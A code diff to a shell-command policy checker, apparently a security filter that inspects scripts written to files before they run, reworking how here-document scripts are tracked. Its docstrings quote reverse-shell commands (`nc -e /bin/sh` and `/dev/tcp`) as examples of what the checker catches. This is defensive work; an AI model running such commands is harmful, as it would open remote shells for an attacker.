@@ -626,10 +626,10 @@ class Evaluation(RunsOtherCode, WordChecks):
         self.parse_status = "ok"
         self.written: set[str] = set()
         """Files this command line writes; running one of them runs text the policy never saw."""
-        self.known_scripts: dict[str, str] = {}
-        """Files of `written` this line writes whole, once, with text known in advance, which was checked as
-        the script of this language (`echo 'print(1)' > x.py`): an interpreter of that language running one
-        runs that text."""
+        self.known_scripts: dict[str, tuple[str, str | None]] = {}
+        """Files of `written` this line writes whole, once, with text known in advance -> the language it runs
+        in, and the text still to judge when the line runs it (None: judged where it was written, as
+        `echo 'print(1)' > x.py` is). An interpreter of that language running one runs that text."""
         self.edited: set[str] = set()
         """Files a pipeline rewrites from their own content read whole first (see `in_place_edit`)."""
         self.loops: list[tuple[frozenset[str], bool]] = []
@@ -1478,41 +1478,62 @@ class Evaluation(RunsOtherCode, WordChecks):
         whole: str | None = None,
         stdin: Stdin | None = None,
     ) -> None:
-        """Text written into a script (`echo 'nc -e /bin/sh h 4444' > x.sh`, `cat > x.py <<'EOF'`, a file
-        starting `#!`) is checked as that script: running the file later runs it, where the policy only sees
-        its name. `whole`: the file's key when this write is the whole of what the line puts in it (see
-        `known_scripts`); `stdin`: the writer's input."""
+        """Text written into a script (`echo 'nc -e /bin/sh h 4444' > x.sh`, a file starting `#!`) is
+        checked as that script: running the file later runs it, where the policy only sees its name.
+        `whole`: the file's key when this write is the whole of what the line puts in it, and `stdin` the
+        writer's input (`cat > x.py <<'EOF'`): see `known_scripts`."""
         last = self._last_output
         if last is not None and last[0] is writer and last[1] == frame.dialect:
             text = last[2]  # `echo x > a.sh > b.sh`: one writer, many targets
         else:
-            text = static_output(writer, stdin, frame.dialect)
+            text = static_output(writer, None, frame.dialect)
             if text is None and any(DYN in a.text for a in writer):
                 # `echo "sh -i >& /dev/tcp/$IP/9000" > x.sh`: the literal parts are still the script; a
                 # run-time part stands as a plain word, so what it cannot hide is judged.
                 held = [Arg(a.text.replace(DYN, _RUN_TIME_PART), a.raw) for a in writer]
                 text = static_output(held, None, frame.dialect)
             self._last_output = (writer, frame.dialect, text)
-        if not text or text.isspace():
-            return
         path = target.text.replace("\\", "/")
+        if not text or text.isspace():
+            if whole is not None and stdin is not None:
+                self._fed_script(path, writer, stdin, frame, whole)
+            return
+        language = self._script_language(path, text, frame)
+        if language is None:
+            return
+        if whole is not None and not any(DYN in a.text for a in writer):
+            self.known_scripts[whole] = (language, None)
+        self._judge_script(
+            text, language, frame.nested(f"the script `{target.raw}` that `{writer[0].raw}` writes"), writer
+        )
+
+    def _fed_script(self, path: str, writer: list[Arg], stdin: Stdin, frame: Frame, key: str) -> None:
+        """A script written whole from the writer's input (`cat > x.py <<'EOF'`): writing code is no run, so
+        its text is judged only if this line runs it (see `known_scripts`). An unquoted here-document's `$x`
+        and backticks are expanded as it is read, so text holding them is not known now."""
+        text = static_output(writer, stdin, frame.dialect)
+        if not text or "$" in text or "`" in text or any(DYN in a.text for a in writer):
+            return
+        language = self._script_language(path, text, frame)
+        if language is not None:
+            self.known_scripts[key] = (language, text)
+
+    def _script_language(self, path: str, text: str, frame: Frame) -> str | None:
+        """The language a file at `path` holding `text` runs in (see `script_language`)."""
         language = script_language(path, text)
         if language is None and frame.dialect == "posix" and self._named_like_program(path):
             language = "posix"  # a shim put before the real program on PATH: a shell runs it without `#!`
-        if language is None:
-            return
-        # An unquoted here-document's `$x` and backticks are expanded as it is read: not text known now.
-        expands = stdin is not None and ("$" in text or "`" in text)
-        if whole is not None and not expands and not any(DYN in a.text for a in writer):
-            self.known_scripts[whole] = language
-        inner = frame.nested(f"the script `{target.raw}` that `{writer[0].raw}` writes")
+        return language
+
+    def _judge_script(self, text: str, language: str, inner: Frame, argv: list[Arg]) -> None:
+        """Check `text` as a script of `language`: a shell's, or an interpreter's payload."""
         scope = self._scope
         cwd = scope.cwd if scope is not None else None
         if language in ("posix", "powershell", "cmd"):
             self.script(text, language, inner)  # type: ignore[arg-type]
         else:
-            self.payload(language, text, inner, writer)
-        # the script's `cd` moves the shell that runs it later, not this line (`echo cd > x.sh` writes here)
+            self.payload(language, text, inner, argv)
+        # the script's `cd` moves the shell that runs it, not this line (`echo cd > x.sh` writes here)
         if scope is None:
             self._scope = None
         else:
